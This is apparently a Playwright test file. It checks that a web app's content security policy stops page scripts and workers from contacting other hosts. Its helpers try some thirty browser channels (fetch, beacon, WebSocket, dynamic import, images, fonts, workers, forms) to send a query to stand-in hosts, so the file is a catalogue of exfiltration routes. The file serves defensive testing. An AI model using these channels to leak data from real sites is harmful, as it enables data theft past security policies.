import { expect, type Page } from '@playwright/test';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from './asked-hosts.ts';
import { addresses, open } from './page-kinds.ts';
import { reached } from './reached.ts';

/**
 * Ways in which a page's script could tell another host something; each names a host of its own. No
 * policy keeps a script from leading the whole page elsewhere, so that is none of them.
 */
async function tellFromPage(page: Page): Promise<number> {
	return page.evaluate(async () => {
		const host = (way: string) => `http://${way}.page.example/?told=figures`;
		const element = <K extends keyof HTMLElementTagNameMap>(
			name: K,
			properties: Partial<HTMLElementTagNameMap[K]>
		) => document.body.append(Object.assign(document.createElement(name), properties));
		const form = (method: string) => {
			const made = Object.assign(document.createElement('form'), {
				method,
				action: host(`form-${method}`),
				target: 'elsewhere'
			});
			document.body.append(made);
			made.submit();
		};
		const ways: Record<string, () => unknown> = {
			fetch: () => fetch(host('fetch')),
			'no-cors': () => fetch(host('no-cors'), { mode: 'no-cors', method: 'POST', body: 'x' }),
			'keep-alive': () => fetch(host('keep-alive'), { keepalive: true, mode: 'no-cors' }),
			xhr: () => {
				const request = new XMLHttpRequest();
				request.open('GET', host('xhr'));
				request.send();
			},
			beacon: () => navigator.sendBeacon(host('beacon'), 'x'),
			socket: () => new WebSocket(host('socket').replace('http', 'ws')),
			'safe-socket': () => new WebSocket(host('safe-socket').replace('http', 'wss')),
			events: () => new EventSource(host('events')),
			image: () => element('img', { src: host('image') }),
			'safe-image': () => element('img', { src: host('safe-image').replace('http', 'https') }),
			picture: () => Object.assign(new Image(), { srcset: `${host('picture')} 2x` }),
			script: () => element('script', { src: host('script') }),
			module: () => element('script', { type: 'module', src: host('module') }),
			import: () => import(/* @vite-ignore */ host('import')),
			style: () => element('link', { rel: 'stylesheet', href: host('style') }),
			preload: () => element('link', { rel: 'preload', as: 'fetch', href: host('preload') }),
			'module-preload': () =>
				element('link', { rel: 'modulepreload', href: host('module-preload') }),
			icon: () => element('link', { rel: 'icon', href: host('icon') }),
			manifest: () => element('link', { rel: 'manifest', href: host('manifest') }),
			frame: () => element('iframe', { src: host('frame') }),
			object: () => element('object', { data: host('object') }),
			embed: () => element('embed', { src: host('embed') }),
			video: () => element('video', { src: host('video'), autoplay: true }),
			audio: () => element('audio', { src: host('audio'), autoplay: true }),
			background: () => {
				document.body.style.backgroundImage = `url(${host('background')})`;
			},
			'imported-style': () =>
				element('style', { textContent: `@import url(${host('imported-style')})` }),
			font: () => new FontFace('foreign', `url(${host('font')})`).load(),
			worker: () => new Worker(host('worker')),
			'shared-worker': () => new SharedWorker(host('shared-worker')),
			get: () => form('get'),
			post: () => form('post')
		};
		for (const way of Object.values(ways)) {
			try {
				void Promise.resolve(way()).catch(() => undefined);
			} catch {
				// Refused at once, which is one of the ways to be refused.
			}
		}
		document.documentElement.style.setProperty('background', 'none');
		await new Promise((resolve) => setTimeout(resolve, 3000));
		return Object.keys(ways).length;
	});
}

/** The same from a worker that is made from a blob, as the engine's is. */
async function tellFromWorker(page: Page): Promise<number> {
	return page.evaluate(async () => {
		const work = `
			const host = (way) => 'http://' + way + '.worker.example/?told=figures';
			const ways = [
				() => fetch(host('fetch')),
				() => fetch(host('no-cors'), { mode: 'no-cors', method: 'POST', body: 'x' }),
				() => {
					const request = new XMLHttpRequest();
					request.open('GET', host('xhr'), false);
					request.send();
				},
				() => new WebSocket(host('socket').replace('http', 'ws')),
				() => new EventSource(host('events')),
				() => importScripts(host('scripts')),
				() => import(host('import')),
				() => new Worker(host('worker')),
				() => new Worker(URL.createObjectURL(new Blob(["fetch('" + host('nested') + "')"]))),
				() => new FontFace('foreign', 'url(' + host('font') + ')').load()
			];
			for (const way of ways) {
				try { Promise.resolve(way()).catch(() => undefined); } catch {}
			}
			postMessage(ways.length);
		`;
		const worker = new Worker(URL.createObjectURL(new Blob([work], { type: 'text/javascript' })));
		const ways = await new Promise<number>((resolve) => {
			worker.onmessage = ({ data }) => resolve(data as number);
		});
		await new Promise((resolve) => setTimeout(resolve, 3000));
		return ways;
	});
}

test('logs what a page without a policy tells other hosts, from each of the same ways', async ({
	hosts,
	page
}) => {
	const server = createServer((_, response) => {
		response.writeHead(200, { 'content-type': 'text/html' });
		response.end('<!doctype html><body></body>');
	});
	await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
	await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/`);
	const ways = (await tellFromPage(page)) + (await tellFromWorker(page));
	const asked = new Set(hosts);
	server.close();
	// A worker may not come from another host, whatever the policy; of two forms the later is sent.
	expect(asked.size).toBeGreaterThan(ways * 0.75);
});

test('tells no other host anything, whatever a script in a page or a worker tries', async ({
	hosts,
	page
}) => {
	await page.goto('/compare/');
	await expect(page.locator('html')).toHaveAttribute('data-engine', 'ready');
	await tellFromPage(page);
	await tellFromWorker(page);
	expect(hosts).toEqual([]);
});

test('asks no other host and breaks no policy, on any page', async ({ baseURL, hosts, page }) => {
	test.setTimeout(600_000);
	const origins = new Set<string>();
	const refused: string[] = [];
	page.on('request', (request) => origins.add(new URL(request.url()).origin));
	page.on('console', (message) => {
		if (/content security policy/i.test(message.text())) refused.push(message.text());
	});
	page.on('pageerror', (error) => refused.push(error.message));
	for (const address of addresses) await open(page, address);
	await page.goto('/compare/');
	await page.getByLabel('Measure', { exact: true }).selectOption('social-worker-turnover-rate');
	await page.getByRole('link', { name: 'Journeys', exact: true }).click();
	await expect(page.getByRole('heading', { name: 'Ofsted journeys' })).toBeVisible();
	expect([...origins].filter((origin) => origin !== 'null')).toEqual([baseURL]);
	expect(hosts).toEqual([]);
	expect(refused).toEqual([]);
	reached(test.info(), 'policy', addresses.length);
	reached(test.info(), 'supply-chain', addresses.length);
});
